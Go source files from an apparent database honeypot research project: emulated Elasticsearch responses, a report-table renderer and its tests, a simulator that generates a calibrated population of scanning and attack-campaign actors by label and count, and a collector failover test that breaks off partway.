	return `{"took":2,"timed_out":false,"_shards":{"total":5,"successful":5,"failed":0},"hits":{"total":2,"max_score":1.0,"hits":[{"_index":"bank","_type":"account","_id":"1","_score":1.0,"_source":{"account_number":1,"balance":39225,"firstname":"Amber","lastname":"Duke"}},{"_index":"bank","_type":"account","_id":"6","_score":1.0,"_source":{"account_number":6,"balance":5686,"firstname":"Hattie","lastname":"Bond"}}]}}`
}

func rootBanner() string {
	b, _ := json.Marshal(map[string]any{
		"status":       200,
		"name":         NodeName,
		"cluster_name": ClusterName,
		"version": map[string]any{
			"number":          Version,
			"build_hash":      "927caff6f05403e936c20bf4529f144f0c89fd8c",
			"build_timestamp": "2014-12-16T14:11:12Z",
			"build_snapshot":  false,
			"lucene_version":  "4.10.2",
		},
		"tagline": "You Know, for Search",
	})
	return string(b)
}

func nodesInfo() string {
	return `{"cluster_name":"` + ClusterName + `","nodes":{"x1JG6g9PQxa":{"name":"` + NodeName + `","transport_address":"inet[/172.17.0.2:9300]","host":"es-node-1","ip":"172.17.0.2","version":"` + Version + `","http_address":"inet[/172.17.0.2:9200]","os":{"available_processors":4},"jvm":{"version":"1.7.0_65"}}}}`
}

func indexOf(p string) string {
	seg := strings.SplitN(strings.TrimPrefix(p, "/"), "/", 2)[0]
	if seg == "" {
		return "index"
	}
	if u, err := url.PathUnescape(seg); err == nil {
		seg = u
	}
	if len(seg) > 64 {
		seg = seg[:64]
	}
	return seg
}

func writeHTTP(bw *bufio.Writer, req *http.Request, status int, body string) error {
	resp := http.Response{
		StatusCode:    status,
		ProtoMajor:    1,
		ProtoMinor:    1,
		Request:       req,
		Header:        http.Header{"Content-Type": []string{"application/json; charset=UTF-8"}},
		Body:          io.NopCloser(strings.NewReader(body)),
		ContentLength: int64(len(body)),
	}
	if err := resp.Write(bw); err != nil {
		return err
	}
	return bw.Flush()
}
