package report

import (
	"strings"
	"testing"
)

func TestTableRendering(t *testing.T) {
	tb := &Table{
		Title:  "Example",
		Header: []string{"name", "count"},
		Note:   "a note",
	}
	tb.AddRow("alpha", 1)
	tb.AddRow("b", 123456)
	tb.AddRow("gamma", 3.14159)
	out := tb.String()
	if !strings.Contains(out, "Example") || !strings.Contains(out, "note: a note") {
		t.Fatalf("missing title/note:\n%s", out)
	}
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	// Title, header, separator, 3 rows, note.
	if len(lines) != 7 {
		t.Fatalf("lines = %d:\n%s", len(lines), out)
	}
	if !strings.Contains(out, "3.14") {
		t.Fatalf("float formatting lost:\n%s", out)
	}
	// Columns align: header and first row start their second column at
	// the same offset.
	hIdx := strings.Index(lines[1], "count")
	rIdx := strings.Index(lines[3], "1")
	if hIdx != rIdx {
		t.Fatalf("misaligned columns (%d vs %d):\n%s", hIdx, rIdx, out)
	}
}

func TestSeries(t *testing.T) {
	out := Series("CDF", []int{1, 5}, []float64{0.25, 1})
	if !strings.Contains(out, "[1]=0.250") || !strings.Contains(out, "[5]=1.000") {
		t.Fatalf("series = %q", out)
	}
}

func TestIntStats(t *testing.T) {
	out := IntStats("x", []int{1, 2, 3})
	if !strings.Contains(out, "min=1") || !strings.Contains(out, "max=3") || !strings.Contains(out, "avg=2.0") {
		t.Fatalf("stats = %q", out)
	}
	if !strings.Contains(IntStats("y", nil), "empty") {
		t.Fatal("empty stats")
	}
}
