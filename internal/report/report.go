// Package report renders analysis results as aligned text tables and
// series, the form in which the experiment harness reproduces each of the
// paper's tables and figures.
package report

import (
	"fmt"
	"strings"
)

// Table is a rendered experiment artefact.
type Table struct {
	Title  string
	Header []string
	Rows   [][]string
	// Note carries the paper-vs-measured commentary attached by the
	// experiment.
	Note string
}

// AddRow appends a row of stringified cells.
func (t *Table) AddRow(cells ...any) {
	row := make([]string, len(cells))
	for i, c := range cells {
		switch v := c.(type) {
		case string:
			row[i] = v
		case float64:
			row[i] = fmt.Sprintf("%.2f", v)
		default:
			row[i] = fmt.Sprint(v)
		}
	}
	t.Rows = append(t.Rows, row)
}

// String renders the table with aligned columns.
func (t *Table) String() string {
	var b strings.Builder
	if t.Title != "" {
		fmt.Fprintf(&b, "%s\n", t.Title)
	}
	widths := make([]int, len(t.Header))
	for i, h := range t.Header {
		widths[i] = len(h)
	}
	for _, row := range t.Rows {
		for i, c := range row {
			if i < len(widths) && len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	line := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			fmt.Fprintf(&b, "%-*s", widths[min(i, len(widths)-1)], c)
		}
		b.WriteByte('\n')
	}
	line(t.Header)
	sep := make([]string, len(t.Header))
	for i := range sep {
		sep[i] = strings.Repeat("-", widths[i])
	}
	line(sep)
	for _, row := range t.Rows {
		line(row)
	}
	if t.Note != "" {
		fmt.Fprintf(&b, "note: %s\n", t.Note)
	}
	return b.String()
}

// Artifact is one reproduced table or figure.
type Artifact struct {
	ID    string // e.g. "T5", "F2"
	Title string
	Body  string
}

// Series renders a numeric series compactly: selected points plus
// summary statistics, which is how figures are reported in text form.
func Series(name string, xs []int, ys []float64) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s:", name)
	for i, x := range xs {
		fmt.Fprintf(&b, " [%d]=%.3f", x, ys[i])
	}
	b.WriteByte('\n')
	return b.String()
}

// IntStats summarises an integer series.
func IntStats(name string, vals []int) string {
	if len(vals) == 0 {
		return fmt.Sprintf("%s: empty\n", name)
	}
	minV, maxV, sum := vals[0], vals[0], 0
	for _, v := range vals {
		if v < minV {
			minV = v
		}
		if v > maxV {
			maxV = v
		}
		sum += v
	}
	return fmt.Sprintf("%s: n=%d min=%d max=%d avg=%.1f\n",
		name, len(vals), minV, maxV, float64(sum)/float64(len(vals)))
}
