// Population generation: turns the calibration tables into a concrete,
// seeded set of actors with addresses drawn from the GeoIP allocation
// plan, activity-day schedules, brute-force volumes and campaign roles.
package simnet

import (
	"fmt"
	"math/rand"
	"net/netip"
	"sort"

	"decoydb/internal/core"
	"decoydb/internal/geoip"
)

// Group-targeting modes for low-tier actors (control-group experiment).
const (
	targetSingleOnly = iota + 1
	targetMultiOnly
	targetBoth
)

// BruteSpec describes a brute-forcer's login volume (already scaled).
type BruteSpec struct {
	MySQL  int64
	MSSQL  int64
	PSQL   int64
	Heavy  bool
	Groups int // targetSingleOnly / targetMultiOnly / targetBoth
}

// Total returns the summed attempts.
func (b *BruteSpec) Total() int64 { return b.MySQL + b.MSSQL + b.PSQL }

// MHSpec is one medium/high-tier behaviour of an actor.
type MHSpec struct {
	DBMS string
	Kind string // one of the kind* constants
}

// Medium/high behaviour kinds.
const (
	kindScan      = "scan"
	kindScout     = "scout"
	kindDeepScout = "deepscout"
	kindRDP       = "rdp"
	kindJDWP      = "jdwp"
	kindP2PInfect = "p2pinfect"
	kindABCbot    = "abcbot"
	kindRedisCVE  = "rediscve"
	kindVandal    = "redisvandal"
	kindKinsing   = "kinsing"
	kindPrivilege = "privilege"
	kindLucifer   = "lucifer"
	kindCraft     = "craft"
	kindVMware    = "vmware"
	kindRedisBF   = "redisbrute"
	kindPGBrute   = "pgbrute"
	kindRansomA   = "ransom0"
	kindRansomB   = "ransom1"
)

// exploitKinds marks which behaviour kinds the paper classifies as
// exploitation (Table 9 bottom half).
var exploitKinds = map[string]bool{
	kindP2PInfect: true, kindABCbot: true, kindRedisCVE: true, kindVandal: true,
	kindKinsing: true, kindPrivilege: true, kindLucifer: true,
	kindRansomA: true, kindRansomB: true,
}

// Actor is one simulated source IP.
type Actor struct {
	Addr          netip.Addr
	Country       string
	ASN           uint32
	Institutional bool
	Days          []int // sorted active days
	HoursPerDay   int   // distinct activity hours per active day

	LowGroups int        // 0 = not on low tier
	Brute     *BruteSpec // nil unless brute-forcing
	MH        []MHSpec

	Seed int64 // per-actor RNG seed for payload variation
}

// IsExploiter reports whether any behaviour is an exploitation campaign.
func (a *Actor) IsExploiter() bool {
	for _, m := range a.MH {
		if exploitKinds[m.Kind] {
			return true
		}
	}
	return false
}

// Population is the complete actor set for one run.
type Population struct {
	Actors        []*Actor
	Institutional []netip.Addr // the "institutional scanner list"
	BruteForcers  []netip.Addr
	Exploiters    []netip.Addr
}

// addrPool hands out unique addresses from the GeoIP allocation plan.
type addrPool struct {
	db   *geoip.DB
	next map[netip.Prefix]uint32
	r    *rand.Rand
}

func newAddrPool(db *geoip.DB, r *rand.Rand) *addrPool {
	return &addrPool{db: db, next: make(map[netip.Prefix]uint32), r: r}
}

// take returns a fresh address in the given (asn, country) slot. It
// prefers exact matches and falls back to country-only (unmapped space
// included) so calibration slots never fail.
func (p *addrPool) take(asn uint32, country string) (netip.Addr, error) {
	var candidates []geoip.Allocation
	for _, a := range p.db.In(country) {
		if a.ASN == asn {
			candidates = append(candidates, a)
		}
	}
	if len(candidates) == 0 {
		for _, a := range p.db.In(country) {
			if a.ASN == 0 {
				candidates = append(candidates, a)
			}
		}
	}
	if len(candidates) == 0 {
		candidates = p.db.In(country)
	}
	if len(candidates) == 0 {
		return netip.Addr{}, fmt.Errorf("simnet: no allocation for AS%d/%s", asn, country)
	}
	alloc := candidates[p.r.Intn(len(candidates))]
	p.next[alloc.Prefix]++
	off := p.next[alloc.Prefix]
	base := alloc.Prefix.Addr().As4()
	v := uint32(base[0])<<24 | uint32(base[1])<<16 | uint32(base[2])<<8 | uint32(base[3])
	v += off
	return netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)}), nil
}

// BuildPopulation generates the full actor set. scale divides login
// volumes (1 = paper volume); days is the experiment length.
func BuildPopulation(seed int64, scale int, days int, db *geoip.DB) (*Population, error) {
	if scale < 1 {
		scale = 1
	}
	r := rand.New(rand.NewSource(seed))
	pool := newAddrPool(db, r)
	pop := &Population{}

	mk := func(asn uint32, country string) (*Actor, error) {
		addr, err := pool.take(asn, country)
		if err != nil {
			return nil, err
		}
		rec, ok := db.Lookup(addr)
		if !ok {
			return nil, fmt.Errorf("simnet: generated unmapped address %v", addr)
		}
		a := &Actor{Addr: addr, Country: rec.Country, ASN: rec.ASN, Seed: r.Int63()}
		pop.Actors = append(pop.Actors, a)
		return a, nil
	}

	if err := buildLowTier(r, scale, days, pop, mk); err != nil {
		return nil, err
	}
	if err := buildMediumHigh(r, days, pop, mk); err != nil {
		return nil, err
	}

	for _, a := range pop.Actors {
		if a.Institutional {
			pop.Institutional = append(pop.Institutional, a.Addr)
		}
		if a.Brute != nil {
			pop.BruteForcers = append(pop.BruteForcers, a.Addr)
		}
		if a.IsExploiter() {
			pop.Exploiters = append(pop.Exploiters, a.Addr)
		}
	}
	sort.Slice(pop.Actors, func(i, j int) bool { return pop.Actors[i].Addr.Less(pop.Actors[j].Addr) })
	return pop, nil
}

// buildLowTier instantiates the 3,340 low-interaction sources.
func buildLowTier(r *rand.Rand, scale, days int, pop *Population, mk func(uint32, string) (*Actor, error)) error {
	groups := make([]lowGroup, len(lowGroups))
	copy(groups, lowGroups)

	// Filler group: pad the population to the exact paper total.
	var n, brute, inst int
	for _, g := range groups {
		n += g.n
		brute += g.brute
		inst += g.inst
	}
	if n > LowTierIPs || brute > BruteForcers || inst > LowInstitutional {
		return fmt.Errorf("simnet: calibration exceeds targets (n=%d brute=%d inst=%d)", n, brute, inst)
	}
	fillN := LowTierIPs - n
	fillBrute := BruteForcers - brute
	fillInst := LowInstitutional - inst
	for i, c := range fillerCountries {
		gn := fillN / len(fillerCountries)
		gb := fillBrute / len(fillerCountries)
		if i == len(fillerCountries)-1 {
			gn = fillN - gn*(len(fillerCountries)-1)
			gb = fillBrute - gb*(len(fillerCountries)-1)
		}
		groups = append(groups, lowGroup{asn: 0, country: c, n: gn, brute: gb, mssqlLogins: int64(gb) * 60})
	}
	// Any residual institutional quota goes to the largest scanner block.
	groups[0].inst += fillInst

	var lowActors []*Actor
	var nonBrute []*Actor
	for _, g := range groups {
		perBrute := [3]int64{} // mysql, mssql, psql per brute actor
		if g.brute > 0 {
			perBrute[0] = g.mysqlLogins / int64(g.brute)
			perBrute[1] = g.mssqlLogins / int64(g.brute)
			perBrute[2] = g.psqlLogins / int64(g.brute)
		}
		for i := 0; i < g.n; i++ {
			a, err := mk(g.asn, g.country)
			if err != nil {
				return err
			}
			a.LowGroups = targetBoth // refined below
			lowActors = append(lowActors, a)
			isBrute := i < g.brute
			// Institutional actors come from the tail of the block; a
			// block may mark a brute-forcer institutional too (the paper
			// observed logins from a security company's AS, Table 6).
			isInst := g.n-i <= g.inst
			if isInst {
				a.Institutional = true
			}
			switch {
			case isBrute:
				spec := &BruteSpec{
					MySQL: scaled(perBrute[0], scale, r),
					MSSQL: scaled(perBrute[1], scale, r),
					PSQL:  perBrute[2], // single-combo repeats: never scaled away
					Heavy: g.heavy,
				}
				a.Brute = spec
				if g.heavy {
					a.Days = pickDays(r, days, 16+r.Intn(4)) // 16–19 of 20 days
					a.HoursPerDay = 24
				} else {
					a.Days = pickDays(r, days, 1+r.Intn(3))
					a.HoursPerDay = 1 + r.Intn(3)
				}
			case isInst:
				// Institutional sweeps recur, but a sizeable minority is
				// seen once (one-off research scans).
				if r.Float64() < 0.25 {
					a.Days = pickDays(r, days, 1)
				} else {
					a.Days = pickDays(r, days, 2+r.Intn(4))
				}
				a.HoursPerDay = 2 + r.Intn(2)
			default:
				// 70% of ordinary scanners appear on a single day; with
				// the institutional and brute-force mixes this lands the
				// overall single-day share at the paper's 43%.
				if r.Float64() < 0.70 {
					a.Days = pickDays(r, days, 1)
					a.HoursPerDay = 1 + r.Intn(2)
				} else {
					a.Days = pickDays(r, days, 2+r.Intn(4))
					a.HoursPerDay = 2 + r.Intn(2)
				}
				nonBrute = append(nonBrute, a)
			}
			if isInst && !isBrute {
				nonBrute = append(nonBrute, a)
			}
		}
	}

	// Control-group split: brute actors connect to both groups; the
	// remaining "both" quota, then single-only, comes from shuffled
	// non-brute actors; everyone else is multi-only.
	r.Shuffle(len(nonBrute), func(i, j int) { nonBrute[i], nonBrute[j] = nonBrute[j], nonBrute[i] })
	bothQuota := BothGroupIPs - BruteForcers
	for i, a := range nonBrute {
		switch {
		case i < bothQuota:
			a.LowGroups = targetBoth
		case i < bothQuota+SingleOnlyIPs:
			a.LowGroups = targetSingleOnly
		default:
			a.LowGroups = targetMultiOnly
		}
	}
	// Brute-force group asymmetry: 41 brute single hosts only, 295 multi
	// hosts only, the rest both.
	var brutes []*Actor
	for _, a := range lowActors {
		if a.Brute == nil {
			continue
		}
		if a.Brute.Heavy {
			// The heavy AS208091 sources hammer everything.
			a.Brute.Groups = targetBoth
			continue
		}
		brutes = append(brutes, a)
	}
	r.Shuffle(len(brutes), func(i, j int) { brutes[i], brutes[j] = brutes[j], brutes[i] })
	for i, a := range brutes {
		switch {
		case i < BruteSingleOnly:
			a.Brute.Groups = targetSingleOnly
		case i < BruteSingleOnly+BruteMultiOnly:
			a.Brute.Groups = targetMultiOnly
		default:
			a.Brute.Groups = targetBoth
		}
	}
	return nil
}

func scaled(v int64, scale int, r *rand.Rand) int64 {
	if v == 0 {
		return 0
	}
	out := v / int64(scale)
	if out == 0 {
		// Keep at least one attempt so the actor remains a brute-forcer
		// at any scale.
		out = 1
	}
	// ±10% jitter so per-actor volumes are not suspiciously uniform.
	j := 1 + (r.Float64()-0.5)*0.2
	out = int64(float64(out) * j)
	if out < 1 {
		out = 1
	}
	return out
}

func pickDays(r *rand.Rand, total, n int) []int {
	if n >= total {
		out := make([]int, total)
		for i := range out {
			out[i] = i
		}
		return out
	}
	perm := r.Perm(total)[:n]
	sort.Ints(perm)
	return perm
}

// buildMediumHigh instantiates the medium/high-tier population: campaign
// actors plus generic scanners and scouts sized to the Table 8 quotas.
func buildMediumHigh(r *rand.Rand, days int, pop *Population, mk func(uint32, string) (*Actor, error)) error {
	addMH := func(a *Actor, kind string, dbms ...string) {
		for _, d := range dbms {
			a.MH = append(a.MH, MHSpec{DBMS: d, Kind: kind})
		}
	}
	fromSlots := func(slots []geoSlot, kind string, dbms string, dMin, dMax int) error {
		for _, s := range slots {
			for i := 0; i < s.n; i++ {
				a, err := mk(s.asn, s.country)
				if err != nil {
					return err
				}
				addMH(a, kind, dbms)
				a.Days = pickDays(r, days, dMin+r.Intn(dMax-dMin+1))
				a.HoursPerDay = 1
			}
		}
		return nil
	}

	// --- Campaigns (Table 9) ---
	if err := fromSlots(p2pinfectGeo, kindP2PInfect, core.Redis, 3, 10); err != nil {
		return err
	}
	if err := fromSlots([]geoSlot{{4134, "CN", nABCbot}}, kindABCbot, core.Redis, 2, 4); err != nil {
		return err
	}
	if err := fromSlots([]geoSlot{{4812, "CN", nRedisCVE}}, kindRedisCVE, core.Redis, 1, 2); err != nil {
		return err
	}
	if err := fromSlots([]geoSlot{{135905, "VN", nRedisVandal}}, kindVandal, core.Redis, 1, 2); err != nil {
		return err
	}
	if err := fromSlots(kinsingGeo, kindKinsing, core.Postgres, 2, 10); err != nil {
		return err
	}
	if err := fromSlots(privilegeGeo, kindPrivilege, core.Postgres, 2, 8); err != nil {
		return err
	}
	if err := fromSlots([]geoSlot{{4134, "CN", nLucifer}}, kindLucifer, core.Elastic, 2, 6); err != nil {
		return err
	}
	if err := fromSlots(ransomAGeo, kindRansomA, core.MongoDB, 4, 12); err != nil {
		return err
	}
	if err := fromSlots(ransomBGeo, kindRansomB, core.MongoDB, 4, 12); err != nil {
		return err
	}
	// RDP scans: the first nRDPBoth actors also probe Redis (Figure 4).
	rdpLeft := nRDPScan
	both := nRDPBoth
	for _, s := range rdpGeo {
		for i := 0; i < s.n && rdpLeft > 0; i++ {
			a, err := mk(s.asn, s.country)
			if err != nil {
				return err
			}
			if both > 0 {
				addMH(a, kindRDP, core.Postgres, core.Redis)
				both--
			} else {
				addMH(a, kindRDP, core.Postgres)
			}
			a.Days = pickDays(r, days, 1+r.Intn(4))
			a.HoursPerDay = 1
			rdpLeft--
		}
	}
	if err := fromSlots([]geoSlot{{0, "CN", nJDWPScan}}, kindJDWP, core.Redis, 1, 2); err != nil {
		return err
	}
	if err := fromSlots([]geoSlot{{4134, "CN", 3}, {135905, "VN", 2}}, kindRedisBF, core.Redis, 1, 3); err != nil {
		return err
	}
	if err := fromSlots([]geoSlot{
		{24940, "DE", 20}, {16276, "FR", 15}, {20473, "US", 20},
		{12389, "RU", 9}, {262287, "BR", 10}, {135905, "VN", 10},
	}, kindPGBrute, core.Postgres, 2, 8); err != nil {
		return err
	}
	if err := fromSlots([]geoSlot{{398324, "US", nCraftCMS}}, kindCraft, core.Elastic, 1, 2); err != nil {
		return err
	}
	if err := fromSlots([]geoSlot{{20473, "US", 8}, {24940, "DE", 4}, {0, "JP", 3}}, kindVMware, core.Elastic, 1, 3); err != nil {
		return err
	}

	// --- Generic scanners and scouts, sized to Table 8 quotas ---
	type block struct {
		n      int
		inst   bool
		origin string            // "scan" (default), "scout", "deepscout"
		kind   map[string]string // dbms -> behaviour kind
	}
	el, mdb, pg, rd := core.Elastic, core.MongoDB, core.Postgres, core.Redis
	blocks := []block{
		{n: 360, inst: true, kind: map[string]string{el: kindScan, mdb: kindScan, pg: kindScan, rd: kindScan}},
		{n: 55, inst: true, kind: map[string]string{el: kindScan, mdb: kindScan, pg: kindScan}},
		{n: 41, inst: true, kind: map[string]string{el: kindScan, pg: kindScan}},
		{n: 253, inst: true, kind: map[string]string{pg: kindScan}},
		{n: 19, inst: true, kind: map[string]string{rd: kindScan}},
		{n: 200, inst: true, kind: map[string]string{pg: kindScan, mdb: kindDeepScout}},
		{n: 80, kind: map[string]string{pg: kindScan, rd: kindScan}},
		{n: 152, kind: map[string]string{el: kindScan}},
		{n: 291, kind: map[string]string{mdb: kindScan}},
		{n: 151, kind: map[string]string{pg: kindScan}},
		{n: 67, kind: map[string]string{rd: kindScan}},
		{n: 150, kind: map[string]string{rd: kindScan, el: kindScout}},
		{n: 30, inst: true, origin: "deepscout", kind: map[string]string{el: kindDeepScout, mdb: kindDeepScout}},
		{n: 140, inst: true, origin: "deepscout", kind: map[string]string{el: kindDeepScout}},
		{n: 104, inst: true, origin: "deepscout", kind: map[string]string{mdb: kindDeepScout}},
		{n: 290, origin: "scout", kind: map[string]string{el: kindScout}},
		{n: 131, origin: "scout", kind: map[string]string{mdb: kindScout}},
		{n: 345, origin: "scout", kind: map[string]string{pg: kindScout}},
		{n: 245, origin: "scout", kind: map[string]string{rd: kindScout}},
	}
	for _, b := range blocks {
		for i := 0; i < b.n; i++ {
			asn, country := mhOrigin(r, b.origin, b.inst)
			a, err := mk(asn, country)
			if err != nil {
				return err
			}
			a.Institutional = b.inst
			// Deterministic iteration order over the kind map.
			dbmses := make([]string, 0, len(b.kind))
			for d := range b.kind {
				dbmses = append(dbmses, d)
			}
			sort.Strings(dbmses)
			scoutish := false
			for _, d := range dbmses {
				addMH(a, b.kind[d], d)
				if b.kind[d] != kindScan {
					scoutish = true
				}
			}
			switch {
			case b.inst:
				a.Days = pickDays(r, days, 2+r.Intn(4))
			case scoutish:
				a.Days = pickDays(r, days, 1+r.Intn(6))
			default:
				a.Days = pickDays(r, days, 1+r.Intn(3))
			}
			a.HoursPerDay = 1
		}
	}
	return nil
}

// mhOrigin draws an (ASN, country) for a generic medium/high actor,
// weighted to reproduce Table 11's AS-type mix: scanning is dominated by
// Hosting and Telecom (institutional scan infrastructure largely rents
// cloud space), scouting adds large Security and Unknown shares, and the
// deep scouts are the named security organisations themselves.
func mhOrigin(r *rand.Rand, origin string, inst bool) (uint32, string) {
	switch origin {
	case "deepscout":
		if r.Float64() < 0.92 {
			return pick(r, securitySlots)
		}
		return pick(r, hostingSlots)
	case "scout":
		switch x := r.Float64(); {
		case x < 0.08:
			return pick(r, telecomSlots)
		case x < 0.70:
			return pick(r, hostingSlots)
		case x < 0.92:
			return pick(r, unknownSlots)
		case x < 0.96:
			return pick(r, ipserviceSlots)
		default:
			return pick(r, ictSlots)
		}
	}
	// Scanners.
	if inst {
		switch x := r.Float64(); {
		case x < 0.37:
			return pick(r, telecomSlots)
		case x < 0.96:
			return pick(r, hostingSlots)
		default:
			return pick(r, securitySlots)
		}
	}
	switch x := r.Float64(); {
	case x < 0.33:
		return pick(r, telecomSlots)
	case x < 0.87:
		return pick(r, hostingSlots)
	case x < 0.98:
		return pick(r, unknownSlots)
	default:
		return pick(r, securitySlots)
	}
}

var telecomSlots = []geoSlot{
	{4134, "CN", 0}, {4837, "CN", 0}, {4812, "CN", 0}, {7922, "US", 0},
	{3320, "DE", 0}, {3215, "FR", 0}, {2856, "GB", 0}, {1136, "NL", 0},
	{7473, "SG", 0}, {7713, "ID", 0}, {12389, "RU", 0}, {9829, "IN", 0},
	{4766, "KR", 0},
}

var hostingSlots = []geoSlot{
	{396982, "US", 0}, {14061, "US", 0}, {16509, "US", 0}, {20473, "US", 0},
	{24940, "DE", 0}, {51167, "DE", 0}, {16276, "FR", 0}, {12876, "FR", 0},
	{49981, "NL", 0}, {57043, "NL", 0}, {34224, "BG", 0}, {45102, "CN", 0},
	{132203, "CN", 0}, {63949, "US", 0}, {8075, "US", 0}, {14061, "SG", 0},
	{14061, "IN", 0}, {44477, "NL", 0}, {35048, "RU", 0},
}

var securitySlots = []geoSlot{
	{398324, "US", 0}, {395092, "US", 0}, {59113, "US", 0},
	{37153, "PT", 0}, {48693, "US", 0}, {64496, "US", 0}, {211298, "GB", 0},
}

var unknownSlots = []geoSlot{
	{0, "US", 0}, {0, "CN", 0}, {0, "BR", 0}, {0, "VN", 0}, {0, "TR", 0},
	{0, "IN", 0}, {0, "JP", 0}, {0, "PL", 0},
}

var ipserviceSlots = []geoSlot{
	{202425, "NL", 0}, {6128, "US", 0},
}

var ictSlots = []geoSlot{
	{13335, "US", 0}, {13335, "DE", 0}, {15169, "US", 0}, {19551, "NL", 0},
}

func pick(r *rand.Rand, slots []geoSlot) (uint32, string) {
	s := slots[r.Intn(len(slots))]
	return s.asn, s.country
}
