package simnet_test

// The collector-tier drill: two farm-side forwarders spread over three
// real dbcollect processes by rendezvous hash, the collector chosen by
// the first farm is SIGKILLed in the middle of a durable flood, the
// farm fails over down its ranking, the dead collector is restarted
// over the same -store, and the tier's merged /query (served by a
// surviving collector running -peers) must account for every acked
// event exactly once — the end-to-end proof that rendezvous
// forwarding, frame pinning, WAL replay dedup, and the query fan-in
// compose into one logical lossless capture.

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"decoydb/internal/obs"
	"decoydb/internal/relay"
	"decoydb/internal/wal"
)

// tierProc is one dbcollect process in the tier, restartable over the
// same store directory and addresses.
type tierProc struct {
	bin       string
	relayAddr string
	adminAddr string
	peers     []string // the OTHER collectors' admin addresses
	storeDir  string
	cmd       *exec.Cmd
	out       *bytes.Buffer
}

func (p *tierProc) start(t *testing.T) {
	t.Helper()
	p.out = &bytes.Buffer{}
	p.cmd = exec.Command(p.bin,
		"-token", "multitok",
		"-listen", p.relayAddr,
		"-admin", p.adminAddr,
		"-peers", strings.Join(p.peers, ","),
		"-store", p.storeDir,
		"-statsevery", "0",
	)
	p.cmd.Stdout = p.out
	p.cmd.Stderr = os.Stderr
	if err := p.cmd.Start(); err != nil {
		t.Fatalf("start dbcollect %s: %v", p.relayAddr, err)
	}
	// Ready when both planes accept: the relay listener and the admin
	// HTTP server.
	for _, addr := range []string{p.relayAddr, p.adminAddr} {
		addr := addr
		waitUntil(t, 15*time.Second, func() bool {
			c, err := net.Dial("tcp", addr)
			if err != nil {
				return false
			}
			c.Close()
			return true
		}, "dbcollect to listen on "+addr)
	}
}

// reservePorts grabs n distinct loopback ports and frees them for the
// collector processes to bind. Racy in principle; in practice the
// kernel does not reassign them within the test's lifetime.
func reservePorts(t *testing.T, n int) []string {
	t.Helper()
	addrs := make([]string, n)
	lns := make([]net.Listener, n)
	for i := range addrs {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		lns[i] = ln
		addrs[i] = ln.Addr().String()
	}
	for _, ln := range lns {
		ln.Close()
	}
	return addrs
}

func TestMultiCollectorFailoverExactlyOnce(t *testing.T) {
	if testing.Short() {
		t.Skip("builds and SIGKILLs real dbcollect processes; skipped with -short")
	}
	if runtime.GOOS == "windows" {
		t.Skip("needs SIGKILL/SIGTERM semantics")
	}

	tmp := t.TempDir()
	bin := filepath.Join(tmp, "dbcollect")
	build := exec.Command("go", "build", "-o", bin, "decoydb/cmd/dbcollect")
	build.Stderr = os.Stderr
	if err := build.Run(); err != nil {
		t.Fatalf("go build dbcollect: %v", err)
	}

	relayAddrs := reservePorts(t, 3)
	adminAddrs := reservePorts(t, 3)

	procs := make([]*tierProc, 3)
	for i := range procs {
		var peers []string
		for j, a := range adminAddrs {
			if j != i {
				peers = append(peers, a)
			}
		}
		procs[i] = &tierProc{
			bin: bin, relayAddr: relayAddrs[i], adminAddr: adminAddrs[i],
			peers: peers, storeDir: filepath.Join(tmp, fmt.Sprintf("store%d", i)),
		}
		procs[i].start(t)
	}
	t.Cleanup(func() {
		for _, p := range procs {
			if p.cmd != nil && p.cmd.Process != nil {
				p.cmd.Process.Kill()
				p.cmd.Wait()
			}
		}
	})

	// Two farms over the same endpoint set, exactly what two `decoydb
	// -store -forward "addrs=..."` deployments run: blocking (lossless)
	// forwarders with durable spools. Short backoff/failback so the
	// drill's cutover and failback land in test time.
	newFarm := func(name string) (*relay.ForwardSink, *wal.Log) {
		spool, err := wal.Open(wal.Options{Dir: filepath.Join(tmp, "spool-"+name)})
		if err != nil {
			t.Fatal(err)
		}
		fwd, err := relay.NewForwardSink(relay.ForwardOptions{
			Addrs: relayAddrs, Token: "multitok", Farm: name,
			Block: true, SpoolWAL: spool, FrameEvents: 100,
			MinBackoff: 5 * time.Millisecond, MaxBackoff: 50 * time.Millisecond,
			FailbackInterval: 100 * time.Millisecond,
			FlushTimeout:     30 * time.Second,
		})
		if err != nil {
			t.Fatal(err)
		}
		return fwd, spool
	}
	fwd1, spool1 := newFarm("multi-farm-a")
	fwd2, spool2 := newFarm("multi-farm-b")

	// The rendezvous-chosen collector for farm A is the one we kill;
	// RankEndpoints is the same computation the forwarder runs, so the
	// choice is deterministic and observable from outside.
	chosen := relay.RankEndpoints("multi-farm-a", relayAddrs)[0]
	var victim *tierProc
	for _, p := range procs {
		if p.relayAddr == chosen {
			victim = p
		}
	}

	// Distinct event ranges per farm so the merged capture is easy to
	// audit: farm A sends [0, totalA), farm B [50000, 50000+totalB).
	totalA, totalB := 0, 0
	sendA := func(n int) {
		t.Helper()
		if err := fwd1.RecordBatch(crashEvents(totalA, n)); err != nil {
			t.Fatal(err)
		}
		totalA += n
	}
	sendB := func(n int) {
		t.Helper()
		if err := fwd2.RecordBatch(crashEvents(50000+totalB, n)); err != nil {
			t.Fatal(err)
		}
		totalB += n
	}

	// Phase 1: flood until farm A's chosen collector has acked at least
	// one frame, so the SIGKILL lands mid-conversation.
	for i := 0; i < 10; i++ {
		sendA(100)
		sendB(100)
	}
	waitUntil(t, 15*time.Second, func() bool { return spool1.Mark() > 0 }, "first ack to farm A")
	waitUntil(t, 15*time.Second, func() bool { return spool2.Mark() > 0 }, "first ack to farm B")

	// SIGKILL the rendezvous-chosen collector: no flush, no goodbye.
	if err := victim.cmd.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	victim.cmd.Wait()

	// Phase 2: the flood continues into the outage. Farm A must fail
	// over to its next-ranked collector; frames already written into
	// the dying socket stay pinned to the victim and wait for it.
	for i := 0; i < 10; i++ {
		sendA(100)
		sendB(100)
	}
	waitUntil(t, 15*time.Second, func() bool { return fwd1.Stats().Failovers > 0 },
		"farm A to fail over")

	// Phase 3: restart the victim over the same -store and addresses.
